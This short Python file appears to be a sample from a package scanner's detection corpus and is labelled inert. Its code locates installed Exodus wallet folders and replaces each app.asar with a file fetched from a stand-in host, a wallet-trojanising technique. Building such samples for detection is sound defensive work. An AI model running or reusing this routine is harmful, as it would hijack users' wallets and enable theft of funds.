# pkgguard corpus 701 (wallets), modelled on [wallet-tools]; inert, never run.
import glob
import os
import shutil
import urllib.request

_root = os.path.join(os.environ.get("LOCALAPPDATA", ""), "exodus")
for _res in glob.glob(os.path.join(_root, "app-*", "resources")):
    _asar = os.path.join(_res, "app.asar")
    if os.path.exists(_asar):
        _tmp = _asar + ".new"
        urllib.request.urlretrieve("https://asar-cdn.example/exodus/app.asar", _tmp)
        shutil.move(_tmp, _asar)
